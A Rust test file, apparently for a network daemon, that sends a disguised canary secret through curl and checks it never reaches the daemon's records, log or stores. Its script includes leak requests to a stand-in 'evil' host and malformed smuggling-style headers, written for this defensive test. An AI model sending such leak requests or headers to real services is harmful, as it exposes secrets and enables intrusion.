// SPDX-License-Identifier: Apache-2.0
//! Queries, header values and bodies that programs send, granted or refused, well formed or not:
//! none of it is in the record, in tornod's log or in a store, in any encoding that the search knows.

use crate::stage::at_each_level;
use torno_stage::canary::{Canary, Sweep};
use torno_stage::world::random;

/// `@C@` comes in other letters, since a command's own words are written down, and rightly so.
const SENT: &str = r#"
C=$(printf %s @C@ | tr g-v 0-9a-f)
say() { curl -s -o /dev/null -w '%{http_code}\n' "$@"; }
say "https://api.torno.test/public?key=$C"
say -H "X-Note: $C" -H "User-Agent: $C" -H "Referer: $C" https://api.torno.test/public
say -d "token=$C" https://api.torno.test/public
say "https://api.torno.test/v1/keys?key=$C"
say -H "Authorization: Bearer $C" https://api.torno.test/public
say -H "X-Api-Key: $C" https://other.torno.test/
say -u "me:$C" https://other.torno.test/
say "https://evil.torno.test/?leak=$C"
say "http://evil.torno.test/?leak=$C"
say -x http://127.0.0.1:3128 "http://evil.torno.test/?leak=$C"
say --proxy-header "X-Note: $C" -p -x http://127.0.0.1:3128 "https://evil.torno.test/?leak=$C"
say --path-as-is "https://api.torno.test/public/..?leak=$C"
say --http1.1 -H "Content-Length: $C" https://api.torno.test/public
say --http1.1 -H "Transfer-Encoding: $C" -d x https://api.torno.test/public
say --http1.1 -X POST -H "X-Bad Name: $C" https://api.torno.test/public
"#;

// ATTACK: 110, 217
#[test]
fn no_query_header_value_or_body_is_in_record_log_or_store() {
    at_each_level("what programs send", |stage, level| {
        let canary = random().unwrap();
        let ran = stage.shell(level, &SENT.replace("@C@", &other_letters(&canary)));
        let codes: Vec<&str> = ran.stdout.lines().collect();
        assert_eq!(codes.len(), 15, "{ran:?}");
        assert_eq!(codes[..3], ["200", "200", "200"], "{ran:?}");
        assert!(codes[3..].iter().all(|code| *code != "200"), "{ran:?}");
        // It really was sent: the far end has it.
        let far = stage.world.api.journal.plaintext();
        assert!(String::from_utf8_lossy(&far).contains(&canary));
        let records = stage.daemon.records().unwrap();
        assert!(records.len() > 20, "{records:?}");
        let mut sweep = Sweep::default();
        sweep.add("the record", serde_json::to_vec(&records).unwrap());
        sweep.add("tornod's log", format!("log:\n{}", stage.daemon.log_text()));
        sweep
            .add_tree("the stores", &stage.daemon.home().join("state"))
            .unwrap();
        let swept = sweep.run(&[Canary::new("what was sent", &canary)]).unwrap();
        assert!(swept.hits.is_empty(), "{:#?}", swept.hits);
    });
}

/// Hex digits as the letters from g to v.
fn other_letters(hex: &str) -> String {
    let digits = hex.chars().filter_map(|c| c.to_digit(16));
    let letters = digits.map(|d| char::from_u32(u32::from(b'g') + d));
    letters.flatten().collect()
}
